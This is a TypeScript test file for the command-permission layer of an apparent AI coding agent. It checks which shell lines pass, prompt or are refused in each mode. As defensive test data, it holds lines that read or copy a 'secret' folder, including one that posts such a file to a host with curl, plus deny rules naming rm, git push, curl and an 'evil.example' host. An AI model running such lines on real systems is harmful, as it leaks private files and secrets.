// 961 command lines with each mode's decision: nothing dangerous passes without a question, nothing that only looks is asked about, and
// what a rule denies is refused in every spelling.

import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { localFs } from "indusagi/capabilities";
import { beforeAll, describe, expect, it } from "vitest";
import {
  BEYOND,
  DANGEROUS,
  EDITS,
  ENDLESS,
  HIDDEN,
  LOOKS,
  linesOf,
  NAMED_HOSTS,
  NETWORK,
  WITHIN,
  WORK,
} from "../../../../../tests/support/command-line-cases.ts";
import { LONG_ONLY } from "../../../../../tests/support/long-form.ts";
import { createPermissions, type PermissionMode } from "./permissions.ts";
import { type PermissionRule, parseRule } from "./rules.ts";

let root: string;
const CONFIG = `[core]
	repositoryformatversion = 0
	filemode = true
[remote "origin"]
	url = https://example.com/x.git
	fetch = +refs/heads/*:refs/remotes/origin/*
[branch "main"]
	remote = origin
`;

beforeAll(() => {
  const base = realpathSync(mkdtempSync(join(tmpdir(), "indus-commands-")));
  root = join(base, "ws");
  for (const folder of ["src", "tests", ".git", "vendor"]) mkdirSync(join(root, folder), { recursive: true });
  writeFileSync(join(root, ".git/config"), CONFIG);
  writeFileSync(join(base, "secret"), "s");
  symlinkSync(base, join(root, "out"));
  for (const file of ["a.txt", "b.txt", "src/a.py", "src/b.py"]) writeFileSync(join(root, file), "x");
});

interface Rules {
  readonly allow?: readonly string[];
  readonly ask?: readonly string[];
  readonly deny?: readonly string[];
}

const read = (rules: readonly string[] = []): readonly PermissionRule[] =>
  rules.map((source) => {
    const rule = parseRule(source);
    if ("problem" in rule) throw new Error(rule.problem);
    return rule;
  });

/** The rules that a refusal suggests for permitting the line; empty if it suggests none. */
async function suggested(command: string): Promise<readonly string[]> {
  const permissions = createPermissions({
    policy: { mode: "acceptEdits", allow: [], ask: [], deny: [] },
    root,
    home: join(root, "..", "home"),
    realPath: localFs().realPath,
    files: localFs(),
  });
  const accesses = [{ kind: "execute" as const, command, cwd: root }];
  const answer = await permissions.check({ tool: "bash", accesses }, new AbortController().signal);
  const said = "reason" in answer ? String(answer.reason) : "";
  // Text with control characters is quoted differently, and ignored here.
  const quoted = said.match(/(?<=--allow )(?!\$')(?:'[^']*'(?:\\''[^']*')*|\S+)/g) ?? [];
  return quoted.map((word) => word.replaceAll("'\\''", "\0").replaceAll("'", "").replaceAll("\0", "'"));
}

interface Sandboxed {
  readonly cwd?: string;
  readonly confined?: boolean;
  readonly outside?: string;
}

/** `passes`, `asks`, or `refused`. */
async function decide(
  command: string,
  mode: PermissionMode,
  rules: Rules = {},
  { cwd = root, confined = false, outside }: Sandboxed = {},
): Promise<string> {
  let isAsked = false;
  const permissions = createPermissions({
    policy: { mode, allow: read(rules.allow), ask: read(rules.ask), deny: read(rules.deny) },
    root: cwd,
    home: join(cwd, "..", "home"),
    realPath: localFs().realPath,
    files: localFs(),
    ask: async () => {
      isAsked = true;
      return { kind: "no" };
    },
  });
  const { kind } = await permissions.check(
    {
      tool: "bash",
      accesses: [{ kind: "execute", command, cwd, outside }],
      confined,
      leaving: outside === undefined ? undefined : { canStay: true, beside: () => 0 },
    },
    new AbortController().signal,
  );
  return kind === "allow" ? "passes" : isAsked ? "asks" : "refused";
}

/** The lines with a different decision. */
async function others(
  lines: readonly string[],
  mode: PermissionMode,
  expected: string,
  rules?: Rules,
  sandboxed?: Sandboxed,
): Promise<readonly string[]> {
  const found: string[] = [];
  for (const line of lines) {
    const outcome = await decide(line, mode, rules, sandboxed);
    if (outcome !== expected) found.push(`${line}: ${outcome}`);
  }
  return found;
}

const DENY = { deny: ["bash(rm *)", "bash(git push *)", "Bash(curl:*)"] };

describe("the table", () => {
  it("has 964 lines, each once: 496 of ordinary work, 78 of them on the network, and 468 of harm, plain, hidden or beyond a rule", () => {
    const lists = { LOOKS, EDITS, WORK, NETWORK, DANGEROUS, HIDDEN, BEYOND, WITHIN, ENDLESS, NAMED_HOSTS };
    const counts = Object.entries(lists).map(([name, list]) => [name, linesOf(list).length]);
    expect(Object.fromEntries(counts)).toEqual({
      ...{ LOOKS: 256, EDITS: 25, WORK: 95, NETWORK: 40, DANGEROUS: 231, HIDDEN: 116 },
      ...{ BEYOND: 92, WITHIN: 42, ENDLESS: 22, NAMED_HOSTS: 45 },
    });
    expect(new Set(Object.values(lists).flatMap(linesOf)).size).toBe(964);
  });

  it.each([
    ["JavaScript", /\b(?:node|npm|npx|yarn|pnpm|tsc|eslint)\b|\.[jt]s\b/, 50],
    ["Python", /\b(?:python3?|pytest|pip|ruff|mypy|tox|black|uv)\b|\.py\b/, 17],
    ["Rust", /\b(?:cargo|rustc)\b|\.rs\b/, 13],
    ["Go", /\bgo (?:build|test|vet|mod|run|version|get)\b|\bgo\.(?:mod|sum)|\.go\b/, 9],
    ["Java", /\b(?:java|javac|mvn|gradlew?)\b/, 6],
    ["C and C++", /\b(?:make|cmake|gcc|g\+\+|clang|ctest|ninja|gdb)\b|\.c\b/, 12],
  ])("has ordinary lines of projects in %s", (_language, own, least) => {
    const ordinary = [LOOKS, EDITS, WORK, NETWORK].flatMap(linesOf);
    expect(ordinary.filter((line) => own.test(line)).length).toBeGreaterThanOrEqual(least);
  });

  it("the rules that a refusal suggests permit that line, and nothing wider", LONG_ONLY, async () => {
    const lines = [...linesOf(WORK), ...linesOf(NETWORK), ...linesOf(DANGEROUS), ...linesOf(HIDDEN)];
    let without = 0;
    for (const line of lines) {
      const allow = await suggested(line);
      if (allow.length === 0) without += 1;
      else expect(await decide(line, "acceptEdits", { allow }), `${line}: ${allow.join(" ")}`).toBe("passes");
      for (const rule of allow) {
        expect(rule, line).not.toMatch(/[*?]/);
        expect(line, rule).toContain(rule.slice("bash(".length, -1));
      }
    }
    expect(without).toBeLessThan(lines.length / 5);
  });

  it.each([
    ["git status && npm run build | head", ["bash(npm run build)"]],
    ["make lint && make test; git push", ["bash(make lint)", "bash(make test)", "bash(git push)"]],
    ["make 'a b' && make c", ["bash(make 'a b' && make c)"]], // its words cannot be written as a rule
    ["rm *.o", []],
    ["make a; make b; make c; make d; make e", ["bash(make a; make b; make c; make d; make e)"]],
  ])("of %s a rule is suggested for each part that is open: %j", async (line, rules) => {
    expect(await suggested(line)).toEqual(rules);
  });

  it.each(["read-only", "acceptEdits", "bypass"] as const)("what only looks passes in %s", async (mode) => {
    expect(await others(linesOf(LOOKS), mode, "passes")).toEqual([]);
  });

  it("what writes as an edit would passes where edits do, and nowhere else", async () => {
    expect(await others(linesOf(EDITS), "acceptEdits", "passes")).toEqual([]);
    expect(await others(linesOf(EDITS), "read-only", "refused")).toEqual([]);
  });

  it.each([
    ["work", WORK],
    ["the network", NETWORK],
    ["danger", DANGEROUS],
    ["what is hidden", HIDDEN],
  ])("%s is asked about, refused in read-only, and open in bypass", async (_what, list) => {
    expect(await others(linesOf(list), "acceptEdits", "asks")).toEqual([]);
    expect(await others(linesOf(list), "read-only", "refused")).toEqual([]);
    expect(await others(linesOf(list), "bypass", "passes")).toEqual([]);
  });

  it("no rule that allows one of them lets another pass behind it", async () => {
    const rules = {
      allow: ["bash(ls *)", "bash(git status *)", "Bash(true:*)", "bash(f *)", "bash(echo *)"],
    };
    expect(await others(linesOf(HIDDEN), "acceptEdits", "asks", rules)).toEqual([]);
  });

  it.each(["acceptEdits", "bypass"] as const)("what is denied passes in no spelling, in %s", async (mode) => {
    const found: string[] = [];
    for (const line of linesOf(HIDDEN)) {
      const outcome = await decide(line, mode, { ...DENY, allow: ["bash"] });
      if (outcome === "passes") found.push(line);
    }
    expect(found).toEqual([]);
  });

  it("the twin: what denies something else denies none of what only looks", async () => {
    expect(await others(linesOf(LOOKS), "acceptEdits", "refused", DENY)).not.toEqual([]);
    const asked = await others(
      linesOf(LOOKS).filter((line) => !/rm|push/.test(line)),
      "bypass",
      "passes",
      DENY,
    );
    expect(asked).toEqual([]);
  });
});

describe("rules on files", () => {
  const allow = ["bash"];
  const reads = `
cp secret/a b
cp ./secret/a b
cp src/../secret/a b
tar cf x.tar secret
node secret/a
dd if=secret/a of=b
base64 secret/a
curl -d @secret/a https://example.com
docker run -v ./secret:/x alpine
gcc -Isecret a.c
ln secret/a b
mv secret b
cd src && cp ../secret/a b
sh -c 'cp secret/a b'
find . -name x -exec cp secret/a b +
env x=1 cp secret/a b
cp SECRET/a b
`;
  const writes = `
cp a.txt locked/b
mv a.txt locked/b
rm -rf locked
touch locked/b
tee locked/b
dd if=a.txt of=locked/b
cp --target-directory=locked a.txt
cp -tlocked a.txt
chmod +x locked/b
`;
  const harmless = [
    "npm test -- locked/a.test.ts",
    "node locked/a.js",
    "cp a.txt b",
    "npm run secrets",
    "git status",
  ];
  const FILES = ["read(./secret/**)", "edit(./locked/**)"];

  it("hold for a command that names one, whatever its program, in every mode; the twins pass", async () => {
    for (const mode of ["acceptEdits", "bypass"] as const) {
      const lines = [reads, writes].flatMap(linesOf);
      expect(await others(lines, mode, "refused", { allow, deny: FILES })).toEqual([]);
      expect(await others(lines, mode, "asks", { allow, ask: FILES })).toEqual([]);
      expect(await others(lines, mode, "passes", { allow })).toEqual([]);
      expect(await others(harmless, mode, "passes", { allow, deny: FILES })).toEqual([]);
    }
  });
});

describe("rules on hosts", () => {
  const HOSTS = ["WebFetch(domain:evil.example)", "webfetch(127.0.0.1)"];
  const allow = ["bash"];

  it("hold for a command that names one, refused or asked about in every mode; the twin passes", async () => {
    for (const mode of ["acceptEdits", "auto", "bypass"] as const) {
      expect(await others(linesOf(NAMED_HOSTS), mode, "refused", { allow, deny: HOSTS })).toEqual([]);
      expect(await others(linesOf(NAMED_HOSTS), mode, "asks", { allow, ask: HOSTS })).toEqual([]);
      expect(await others(linesOf(NAMED_HOSTS), mode, "passes", { allow })).toEqual([]);
    }
  });

  it("ask about a command that goes to a host that is not known, but for one that the sandbox holds", async () => {
    for (const line of ['curl "$U"', "curl $(cat a.txt)", "ls | xargs wget", "ssh $H ls"]) {
      expect(await decide(line, "bypass", { allow, deny: HOSTS }), line).toBe("asks");
      expect(await decide(line, "bypass", { allow }), line).toBe("passes");
    }
    expect(await decide('curl "$U"', "auto", { deny: HOSTS }, { confined: true })).toBe("passes");
  });

  it("are no matter of other hosts, nor of commands that go nowhere", async () => {
    const lines = [
      "curl https://example.com/evil.example",
      "echo https://evil.example",
      "git status",
      "npm test",
    ];
    expect(await others(lines, "bypass", "passes", { allow, deny: HOSTS })).toEqual([]);
    expect(await others(linesOf(LOOKS), "acceptEdits", "passes", { deny: HOSTS })).toEqual([]);
  });

  it("allow no command", async () => {
    const rules = { allow: ["webfetch", "webfetch(evil.example)"] };
    expect(await others(linesOf(NAMED_HOSTS).slice(0, 4), "acceptEdits", "asks", rules)).toEqual([]);
  });
});

describe("a line that may start processes without end", () => {
  it("is asked about in every mode but bypass, in a sandbox too, and whatever rule allows its parts", async () => {
    const rules = { allow: ["bash(ls *)", "bash(sleep *)", "bash(sh *)", "bash"] };
    for (const sandboxed of [{}, { confined: true }])
      for (const mode of ["acceptEdits", "auto"] as const)
        expect(await others(linesOf(ENDLESS), mode, "asks", rules, sandboxed)).toEqual([]);
    expect(await others(linesOf(ENDLESS), "read-only", "refused", rules)).toEqual([]);
    expect(await others(linesOf(ENDLESS), "bypass", "passes", rules)).toEqual([]);
  });

  it("the twins: functions and loops that end pass", async () => {
    const lines = [
      "f() { echo a | echo b; }; f",
      "f() { ls & wait; }; f; f",
      "for i in 1 2 3; do sleep 1 & done; wait",
      "while false; do ls; done",
      "ls & ls",
    ];
    expect(await others(lines, "auto", "passes", {}, { confined: true })).toEqual([]);
    expect(await others(lines.slice(0, 1), "acceptEdits", "passes")).toEqual([]);
  });
});

describe("rules that allow a program with a star", () => {
  const programs = new Set([BEYOND, WITHIN].flatMap(linesOf).map((line) => line.split(" ", 1)[0]));
  const allow = [...programs]
    .filter((name) => name !== "timeout" && name !== "xargs")
    .map((name) => `bash(${name} *)`);
  const rules = { allow: [...allow, "bash(timeout 60 git *)", "bash(xargs rg *)"] };

  it("cover what it is for, and nothing that runs another one or is done elsewhere", async () => {
    expect(await others(linesOf(BEYOND), "acceptEdits", "asks", rules)).toEqual([]);
    expect(await others(linesOf(WITHIN), "acceptEdits", "passes", rules)).toEqual([]);
  });

  it("the twin: a rule that names all of it, or every program, covers it", async () => {
    for (const line of linesOf(BEYOND).filter((each) => !/[*"']/.test(each)))
      expect(await decide(line, "acceptEdits", { allow: [`bash(${line})`] }), line).toBe("passes");
    expect(await others(linesOf(BEYOND), "acceptEdits", "passes", { allow: ["bash"] })).toEqual([]);
    expect(await decide("cp a.txt /tmp/x", "acceptEdits", { allow: ["bash(cp * /tmp/*)"] })).toBe("passes");
    expect(await decide("cp a.txt /tmp/../x", "acceptEdits", { allow: ["bash(cp * /tmp/*)"] })).toBe("asks");
    expect(await decide("git bisect run x", "acceptEdits", { allow: ["bash(git bisect run *)"] })).toBe(
      "passes",
    );
  });
});

describe("the table in the mode auto", () => {
  const inside = { confined: true };
  const outside = { outside: "it has to" };
  const ORDINARY = [LOOKS, EDITS, WORK].flatMap(linesOf);

  it("asks about none of what the sandbox confines: at most 5 % of the ordinary commands, today none", async () => {
    const asked = await others(ORDINARY, "auto", "passes", {}, inside);
    expect(asked).toEqual([]);
    expect(asked.length).toBeLessThanOrEqual(ORDINARY.length * 0.05);
  });

  it("asks about every dangerous, hidden and networked one that is to run outside of it", async () => {
    const lines = [WORK, NETWORK, DANGEROUS, HIDDEN].flatMap(linesOf);
    expect(await others(lines, "auto", "asks", {}, outside)).toEqual([]);
    expect(await others(linesOf(LOOKS), "auto", "passes", {}, outside)).toEqual([]);
  });

  it("is acceptEdits where nothing confines them", async () => {
    expect(await others([LOOKS, EDITS].flatMap(linesOf), "auto", "passes")).toEqual([]);
    expect(await others([WORK, NETWORK, DANGEROUS, HIDDEN].flatMap(linesOf), "auto", "asks")).toEqual([]);
  });

  it("lets nothing pass that is denied or asked about, inside as outside", async () => {
    for (const each of [inside, outside]) {
      for (const line of linesOf(HIDDEN))
        expect(await decide(line, "auto", { ...DENY, allow: ["bash"] }, each), line).not.toBe("passes");
    }
    expect(await decide("npm test", "auto", { ask: ["bash(npm *)"] }, inside)).toBe("asks");
    expect(await decide("npm test", "auto", {}, inside)).toBe("passes"); // the twin
  });

  it("is no other mode's: where each asks or refuses, it does so with a sandbox too", async () => {
    const lines = [WORK, NETWORK, DANGEROUS].flatMap(linesOf);
    expect(await others(lines, "acceptEdits", "asks", {}, inside)).toEqual([]);
    expect(await others(lines, "read-only", "refused", {}, inside)).toEqual([]);
  });
});
